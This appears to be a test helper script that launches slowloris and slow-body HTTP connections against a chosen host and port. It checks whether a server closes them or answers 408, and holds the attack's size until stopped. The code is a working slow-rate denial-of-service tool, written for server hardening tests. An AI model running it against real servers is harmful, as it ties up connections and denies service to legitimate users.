"""Slow clients for ``test_hostile.py``, run as a process of their own:

    python attacker.py HOST PORT HEADS BODIES SECONDS

HEADS connections send a request head a byte a second and never finish it (slowloris); BODIES
connections send a whole head announcing a 10 kB body, then trickle the body a byte a second.
Each connection acts on its own time, spread evenly over the second (as independent clients
would, not all at once); one the server closes is opened again a second later, so the attack
keeps its size until SIGTERM (or SECONDS). Prints one JSON line: connections opened, closed
by the server, 408s received.
"""

import json
import signal
import socket
import sys
import time

HEAD = b"POST /v1/predict HTTP/1.1\r\nHost: test\r\nContent-Type: application/json\r\nX-Slow: "
BODY = (
    b"POST /v1/predict HTTP/1.1\r\nHost: test\r\nContent-Type: application/json\r\n"
    b'Content-Length: 10000\r\n\r\n{"inputs": ["'
)


def main() -> None:
    host, port = sys.argv[1], int(sys.argv[2])
    heads, bodies, seconds = int(sys.argv[3]), int(sys.argv[4]), float(sys.argv[5])
    slots: list[socket.socket | None] = [None] * (heads + bodies)
    stats = {"opened": 0, "closed_by_server": 0, "answered_408": 0}
    end = time.monotonic() + seconds
    stop: list[bool] = []
    signal.signal(signal.SIGTERM, lambda *_: stop.append(True))
    gap = 1.0 / len(slots)
    while (tick := time.monotonic()) < end and not stop:
        for i, s in enumerate(slots):
            while not stop and time.monotonic() < tick + i * gap:
                time.sleep(gap / 2)
            if s is None:
                try:
                    s = socket.create_connection((host, port), timeout=2)
                    s.sendall(HEAD if i < heads else BODY)
                except OSError:
                    continue
                s.setblocking(False)
                slots[i] = s
                stats["opened"] += 1
                continue
            try:
                s.send(b"a")
                data = s.recv(65536)
            except BlockingIOError:  # nothing to read: still held
                continue
            except OSError:
                data = b""
            if b" 408 " in data:
                stats["answered_408"] += 1
            if not data or b"\r\n\r\n" in data:  # closed, or answered (then closed)
                s.close()
                slots[i] = None
                stats["closed_by_server"] += 1
        while not stop and time.monotonic() < tick + 1.0:
            time.sleep(gap)
    for s in slots:
        if s is not None:
            s.close()
    print(json.dumps(stats), flush=True)


if __name__ == "__main__":
    main()
